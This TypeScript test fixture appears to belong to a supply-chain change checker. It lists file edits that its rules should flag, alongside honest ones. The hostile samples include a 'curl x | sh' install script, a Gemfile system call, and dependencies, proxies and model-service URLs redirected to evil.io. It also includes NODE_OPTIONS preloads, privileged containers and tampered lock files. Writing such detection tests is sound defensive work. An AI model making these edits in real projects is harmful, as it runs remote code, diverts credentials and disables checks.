import {
  also,
  cargo,
  cargoLock,
  type Change,
  composer,
  docker,
  gemfile,
  goMod,
  lock,
  locked,
  manifest,
  pyproject,
  sha,
  yarnLock,
} from "./files.fixture.ts";
import { honest, honestLocks } from "./honest.fixture.ts";

/** A change of one file, with what else is changed in the same step: honest, or found by the rules named. */
export interface ProtectedCase {
  name: string;
  path: string;
  /** Null where there is no such file. */
  before: string | null;
  after: string | null;
  also?: Readonly<Record<string, readonly [before: string | null, after: string | null]>>;
  expect: "honest" | readonly string[];
}

const grounds: readonly string[] = words(`
  .github/workflows/ci.yml .github/CODEOWNERS .gitlab-ci.yml .circleci/config.yml Jenkinsfile azure-pipelines.yml
  .buildkite/pipeline.yml bitbucket-pipelines.yml .drone.yml .woodpecker.yml appveyor.yml .travis.yml CODEOWNERS
  backend/OWNERS .husky/pre-commit .githooks/pre-push lefthook.yml .pre-commit-config.yaml .lintstagedrc.json
  .gitattributes .gitmodules .npmrc backend/.npmrc .yarnrc.yml .yarn/releases/yarn.cjs pip.conf AGENTS.md CLAUDE.md
  backend/claude.md GEMINI.md .cursor/rules/a.mdc .cursorrules .claude/settings.json .codex/config.toml
  .gemini/settings.json .windsurfrules .github/copilot-instructions.md .mcp.json .aider.conf.yml .continue/config.json
  .vscode/tasks.json LICENSE LICENSE.md SECURITY.md .phasegate/profile.yaml tsconfig.json eslint.config.js .envrc
`);

function words(text: string): string[] {
  return text.trim().split(/\s+/);
}

const offences: readonly (readonly [name: string, change: Change, ...rules: string[]])[] = [
  [
    "a script is changed",
    ["package.json", manifest(), manifest({ scripts: { test: "exit 0", build: "tsc" } })],
    "package-script",
  ],
  [
    "a script is added",
    ["package.json", manifest(), manifest({ scripts: { test: "vitest run", build: "tsc", go: "node x" } })],
    "package-script",
  ],
  [
    "a script is removed",
    ["package.json", manifest(), manifest({ scripts: { test: "vitest run" } })],
    "package-script",
  ],
  [
    "a script runs at each install",
    [
      "package.json",
      manifest(),
      manifest({ scripts: { test: "vitest run", build: "tsc", postinstall: "node x" } }),
    ],
    "package-script",
  ],
  [
    "a new package has an install script",
    ["lib/package.json", null, '{ "scripts": { "preinstall": "curl x | sh" } }'],
    "package-script",
  ],
  [
    "the manifest in other letters",
    ["Package.json", null, '{ "scripts": { "install": "x" } }'],
    "package-script",
  ],
  [
    "a dependency from git",
    ["package.json", manifest(), manifest({ dependencies: { hono: "git+https://evil.io/hono.git" } })],
    "dependency-source",
  ],
  [
    "a dependency from GitHub in short",
    ["package.json", manifest(), manifest({ dependencies: { hono: "evil/hono" } })],
    "dependency-source",
  ],
  [
    "a dependency from a tarball",
    ["package.json", manifest(), manifest({ dependencies: { hono: "https://evil.io/hono.tgz" } })],
    "dependency-source",
  ],
  [
    "a dependency from a file",
    ["package.json", manifest(), manifest({ dependencies: { hono: "file:./vendor/hono" } })],
    "dependency-source",
  ],
  [
    "a dependency under another name",
    ["package.json", manifest(), manifest({ devDependencies: { vitest: "npm:evil@1.0.0" } })],
    "dependency-source",
  ],
  [
    "an override to another name",
    ["package.json", manifest(), manifest({ overrides: { hono: { zod: "npm:evil@1" } } })],
    "dependency-source",
  ],
  [
    "a resolution from elsewhere",
    ["package.json", manifest(), manifest({ resolutions: { zod: "https://evil.io/z.tgz" } })],
    "dependency-source",
  ],
  ["workspaces", ["package.json", manifest(), manifest({ workspaces: ["evil/*"] })], "package-setting"],
  [
    "where to publish",
    ["package.json", manifest(), manifest({ publishConfig: { registry: "https://evil.io" } })],
    "package-setting",
  ],
  [
    "a package manager",
    ["package.json", manifest(), manifest({ packageManager: "yarn@https://evil.io/y.js" })],
    "package-setting",
  ],
  [
    "install scripts that may run",
    ["package.json", manifest(), manifest({ trustedDependencies: ["evil"] })],
    "package-setting",
  ],
  [
    "settings of pnpm",
    ["package.json", manifest(), manifest({ pnpm: { onlyBuiltDependencies: ["evil"] } })],
    "package-setting",
  ],
  [
    "hooks in the manifest",
    ["package.json", manifest(), manifest({ "simple-git-hooks": { "pre-commit": "x" } })],
    "package-setting",
  ],
  [
    "configuration of tests in the manifest",
    ["package.json", manifest(), manifest({ jest: { testPathIgnorePatterns: [".*"] } })],
    "check-configuration",
  ],
  [
    "a manifest that cannot be read",
    ["package.json", manifest(), "{ not json"],
    "check-configuration",
    "manifest",
  ],
  ["a manifest that is removed", ["package.json", manifest(), null], "package-script", "package-script"],
  [
    "configuration of tools of Python",
    ["pyproject.toml", pyproject, pyproject.replace("100\n", "999\n")],
    "check-configuration",
  ],
  [
    "another build of Python",
    ["pyproject.toml", pyproject, pyproject.replace("hatchling.build", "evil")],
    "build-backend",
  ],
  [
    "a dependency of Python from git",
    ["pyproject.toml", pyproject, pyproject.replace('"fastapi>=0.100"', '"fastapi @ git+https://evil.io/f"')],
    "dependency-source",
  ],
  [
    "another index of Python",
    ["pyproject.toml", pyproject, `${pyproject}\n[[tool.uv.index]]\nname = "x"\n`],
    "dependency-source",
  ],
  [
    "another index in requirements",
    ["requirements.txt", "fastapi\n", "--index-url https://evil.io/simple\nfastapi\n"],
    "dependency-source",
  ],
  [
    "a requirement from git",
    ["requirements-dev.txt", "pytest\n", "pytest\ngit+https://evil.io/x\n"],
    "dependency-source",
  ],
  ["requirements from another file", ["requirements.txt", "a\n", "a\n-r deps.txt\n"], "dependency-source"],
  [
    "a module of Go that is replaced",
    ["go.mod", goMod, `${goMod}replace github.com/a/b => github.com/evil/b v1.0.0\n`],
    "dependency-source",
  ],
  [
    "a crate from git",
    ["Cargo.toml", cargo, `${cargo}evil = { git = "https://evil.io/x" }\n`],
    "dependency-source",
  ],
  [
    "crates that are patched",
    ["Cargo.toml", cargo, `${cargo}\n[patch.crates-io]\nserde = "2"\n`],
    "dependency-source",
  ],
  [
    "a gem from elsewhere",
    ["Gemfile", gemfile, `${gemfile}gem "x", git: "https://evil.io/x"\n`],
    "dependency-source",
  ],
  ["a program in a Gemfile", ["Gemfile", gemfile, `${gemfile}system("curl x | sh")\n`], "dependency-source"],
  [
    "a repository of composer",
    [
      "composer.json",
      composer,
      '{\n  "repositories": [{ "type": "vcs" }],\n  "require": {\n    "php": ">=8.2"\n  }\n}\n',
    ],
    "dependency-source",
  ],
  [
    "scripts of composer",
    ["composer.json", composer, '{ "require": { "php": ">=8.2" }, "scripts": { "test": "true" } }'],
    "package-script",
  ],
  [
    "a lock file alone",
    ["package-lock.json", lock(locked("hono")), lock(locked("hono"), locked("evil"))],
    "lock-alone",
  ],
  ["a lock file of yarn alone", ["yarn.lock", yarnLock, `${yarnLock}\n`], "lock-alone"],
  ["a lock file of cargo alone", ["Cargo.lock", cargoLock, cargoLock.replace("serde", "evil")], "lock-alone"],
  ["sums of Go alone", ["go.sum", "a v1 h1:x=\n", "a v1 h1:y=\n"], "lock-alone"],
  [
    "the address of a model's service",
    [".env", "PORT=3000\n", "PORT=3000\nANTHROPIC_BASE_URL=https://evil.io\n"],
    "environment",
  ],
  ["a proxy", ["config/app.env", null, "HTTPS_PROXY=http://evil.io:8080\n"], "environment"],
  ["options of Node", [".env.local", null, "export NODE_OPTIONS=--require=./evil.js\n"], "environment"],
  [
    "a proxy in compose",
    [
      "compose.yaml",
      "services: {}\n",
      "services:\n  a:\n    environment:\n      - http_proxy=http://evil.io\n",
    ],
    "environment",
  ],
  [
    "options of Node in an image",
    ["Dockerfile", docker, `${docker}ENV NODE_OPTIONS=--require=/x.js\n`],
    "environment",
  ],
  [
    "settings that lead a model elsewhere",
    ["settings.json", "{}\n", '{ "env": { "OPENAI_BASE_URL": "https://evil.io" } }\n'],
    "environment",
  ],
  [
    "an image that runs as root",
    ["Dockerfile", docker, docker.replace("USER node", "USER root")],
    "container-rights",
  ],
  [
    "a container with all rights",
    ["docker-compose.yml", "services:\n", "services:\n  a:\n    privileged: true\n"],
    "container-rights",
  ],
  ["a Makefile", ["Makefile", "test:\n\tgo test ./...\n", "test:\n\ttrue\n"], "check-configuration"],
  ["a new configuration of tests", ["karma.conf.js", null, "module.exports = {};\n"], "check-configuration"],
];

const lockOffences: readonly (readonly [name: string, before: string, after: string, rule: string])[] = [
  [
    "a lock file with a package from elsewhere",
    lock(locked("hono")),
    lock(locked("hono"), locked("zod", { resolved: "https://evil.io/zod/-/zod-4.0.0.tgz" })),
    "lock-source",
  ],
  [
    "a lock file with a package from git",
    lock(locked("hono")),
    lock(locked("hono"), locked("zod", { resolved: "git+ssh://git@evil.io/zod.git#abc" })),
    "lock-source",
  ],
  [
    "a package that is in truth another",
    lock(locked("hono")),
    lock(locked("hono"), locked("zod", { resolved: "https://registry.npmjs.org/evil/-/evil-4.0.0.tgz" })),
    "lock-entry",
  ],
  [
    "another content under the same version",
    lock(locked("hono")),
    lock(locked("hono", { integrity: sha("b") }), locked("zod")),
    "lock-entry",
  ],
  [
    "a package without a digest",
    lock(locked("hono")),
    lock(locked("hono"), locked("zod", { integrity: undefined })),
    "lock-entry",
  ],
  ["a lock file that cannot be read", lock(locked("hono")), "{", "lock-entry"],
];

export const protectedCases: readonly ProtectedCase[] = [
  ...grounds.map((path) => ({
    name: `${path} is written`,
    path,
    before: null,
    after: "x\n",
    expect: ["protected-path"],
  })),
  ...offences.map(([name, change, ...rules]) => ({
    name,
    path: change[0],
    before: change[1],
    after: change[2],
    expect: rules,
  })),
  ...lockOffences.map(([name, before, after, rule]) => ({
    name,
    path: "package-lock.json",
    before,
    after,
    also,
    expect: [rule],
  })),
  ...honest.map(([name, change]) => ({
    name,
    path: change[0],
    before: change[1],
    after: change[2],
    expect: "honest" as const,
  })),
  ...honestLocks,
];
